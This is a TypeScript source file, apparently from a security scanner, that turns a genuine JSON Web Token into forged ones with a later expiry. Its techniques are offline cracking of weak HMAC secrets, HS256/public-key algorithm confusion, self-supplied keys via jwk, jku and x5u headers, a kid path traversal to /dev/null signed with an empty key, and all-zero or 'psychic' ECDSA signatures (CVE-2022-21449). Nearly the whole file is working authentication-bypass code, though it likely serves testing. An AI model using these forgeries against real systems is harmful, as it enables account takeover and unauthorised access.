import { createHmac, type KeyObject, timingSafeEqual } from 'node:crypto';
import { CompactSign, exportJWK, generateKeyPair, type JWK } from 'jose';
import type { Alteration } from './alterations.ts';
import { encodePart, type Jwt, parseJwt } from './jwt.ts';
import type { PublicKey } from './public-keys.ts';
import { WEAK_SECRETS } from './weak-secrets.ts';

/** What a forger has besides a genuine token. */
export interface ForgersKnowledge {
  publicKeys: readonly PublicKey[];
  /** Names of the product and its host: people sign with them. */
  names: readonly string[];
  /** Scheme, host and port of the product. */
  origin: string;
  /**
   * Publishes a key where the product’s server can fetch it, and tells the address; without it no forged header sends
   * that server anywhere but to the product itself.
   */
  publish?: (key: JWK) => string;
}

const HASHES: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };
/** Bytes of an ECDSA signature as JWS writes it. */
const ECDSA_BYTES: Record<string, number> = { ES256: 64, ES384: 96, ES512: 132 };
/** An ECDSA signature of two zeros in DER: CVE-2022-21449 accepted it for everything. */
const PSYCHIC = 'MAYCAQACAQA';
/** Seconds by which a forged token outlives the genuine one, so that it cannot be the genuine one. */
const LONGER = 600;
const MOST_PUBLIC_KEYS = 4;
const DEV_NULL = ['/dev/null', '../../../../../../../../dev/null'];

/**
 * Tokens that say the same as a genuine one, expire later, and were signed without the server's key.
 *
 * A weak secret is looked for offline, against the genuine signature; only one that fits makes a token. `jku` and
 * `x5u` name an address of the forger's own where the product can reach one, and otherwise one of the product itself
 * where nothing is: no third party is ever asked.
 */
export async function* forgeries(
  token: string,
  knowledge: ForgersKnowledge,
): AsyncGenerator<Alteration> {
  const jwt = parseJwt(token);
  if (!jwt) return;
  const genuine = String(jwt.header['alg']);
  yield* guessed(jwt, knowledge);
  yield* confused(jwt, knowledge.publicKeys);
  yield* byItsOwnKey(jwt, knowledge);
  for (const kid of DEV_NULL) {
    yield {
      name: `a token signed with an empty key that its “kid” names (${kid})`,
      value: signedWith('', jwt, { alg: 'HS256', kid }),
    };
  }
  const length = ECDSA_BYTES[genuine];
  if (length !== undefined) {
    const unsigned = `${encodePart(jwt.header)}.${claimsOf(jwt)}`;
    const zeros = Buffer.alloc(length).toString('base64url');
    yield { name: 'a token with an ECDSA signature of zeros', value: `${unsigned}.${zeros}` };
    yield {
      name: 'a token with an ECDSA signature of zeros in DER',
      value: `${unsigned}.${PSYCHIC}`,
    };
  }
}

/** The well-known secret, or name of the product, that a token was signed with; undefined: none of them. */
export function weakSecretOf(token: string, names: readonly string[] = []): Buffer | undefined {
  const jwt = parseJwt(token);
  const hash = HASHES[String(jwt?.header['alg'])];
  if (!jwt || hash === undefined) return undefined;
  const [head, body, signature] = jwt.parts;
  const wanted = Buffer.from(signature, 'base64url');
  const own = names.flatMap((name) => [name, name.toLowerCase(), `${name.toLowerCase()}-secret`]);
  for (const secret of [...own, ...WEAK_SECRETS]) {
    // Some products decode what is configured, as if it were base64.
    for (const key of [Buffer.from(secret, 'utf8'), Buffer.from(secret, 'base64')]) {
      const made = createHmac(hash, key).update(`${head}.${body}`).digest();
      if (made.length === wanted.length && timingSafeEqual(made, wanted)) return key;
    }
  }
  return undefined;
}

function* guessed(jwt: Jwt, { names }: ForgersKnowledge): Generator<Alteration> {
  const secret = weakSecretOf(jwt.parts.join('.'), names);
  if (!secret) return;
  yield {
    name: 'a token signed with the server’s own secret, which is a well-known word,',
    value: signedWith(secret, jwt, {}),
  };
}

function* confused(jwt: Jwt, publicKeys: readonly PublicKey[]): Generator<Alteration> {
  for (const { key, id } of publicKeys.slice(0, MOST_PUBLIC_KEYS)) {
    const header = { alg: 'HS256', ...(id === undefined ? {} : { kid: id }) };
    for (const [form, secret] of formsOf(key)) {
      yield {
        name: `a token signed by HS256 with the server’s public key (${form})`,
        value: signedWith(secret, jwt, header),
      };
    }
  }
}

function formsOf(key: KeyObject): [form: string, secret: string][] {
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const forms: [string, string][] = [
    ['PEM', pem],
    ['PEM without its last line break', pem.trimEnd()],
    ['JWK', JSON.stringify(key.export({ format: 'jwk' }))],
  ];
  if (key.asymmetricKeyType === 'rsa') {
    forms.push(['PKCS #1', key.export({ type: 'pkcs1', format: 'pem' }).toString()]);
  }
  return forms;
}

async function* byItsOwnKey(
  jwt: Jwt,
  { origin, publish }: ForgersKnowledge,
): AsyncGenerator<Alteration> {
  const genuine = String(jwt.header['alg']);
  const { kid } = jwt.header;
  const named = typeof kid === 'string' ? { kid } : {};
  for (const alg of new Set([/^(RS|PS|ES)/.test(genuine) ? genuine : 'RS256', 'ES256'])) {
    const { privateKey, publicKey } = await generateKeyPair(alg, { extractable: true });
    const jwk = { ...(await exportJWK(publicKey)), ...named, alg, use: 'sig' };
    const address = publish?.(jwk) ?? `${origin}/.well-known/no-such-keys.json`;
    const headers: [string, Record<string, unknown>][] = [
      ['a key of its own (jwk)', { jwk }],
      ['the address of a key of its own (jku)', { jku: address }],
      ['a key of its own, and an address for it (jku)', { jwk, jku: address }],
      ['an address for its key (x5u)', { jwk, x5u: address }],
    ];
    for (const [how, header] of headers) {
      const value = await new CompactSign(Buffer.from(claimsOf(jwt), 'base64url'))
        .setProtectedHeader({ ...jwt.header, ...header, alg })
        .sign(privateKey);
      yield { name: `a token that brings ${how}, ${alg},`, value };
    }
  }
  if (HASHES[genuine] === undefined) return;
  const secret = 'a secret that the forger chose, long enough for every hash';
  const jwk = { kty: 'oct', k: Buffer.from(secret).toString('base64url'), ...named };
  yield {
    name: 'a token that brings a secret of its own (jwk)',
    value: signedWith(secret, jwt, { jwk }),
  };
}

/** A token with the claims of the genuine one, and a header that has these fields too, signed by HMAC. */
function signedWith(secret: string | Buffer, jwt: Jwt, fields: Record<string, unknown>): string {
  const header = { ...jwt.header, ...fields };
  const unsigned = `${encodePart(header)}.${claimsOf(jwt)}`;
  const hash = HASHES[String(header['alg'])] ?? 'sha256';
  return `${unsigned}.${createHmac(hash, secret).update(unsigned).digest('base64url')}`;
}

function claimsOf({ payload }: Jwt): string {
  const { exp } = payload;
  return encodePart(typeof exp === 'number' ? { ...payload, exp: exp + LONGER } : payload);
}
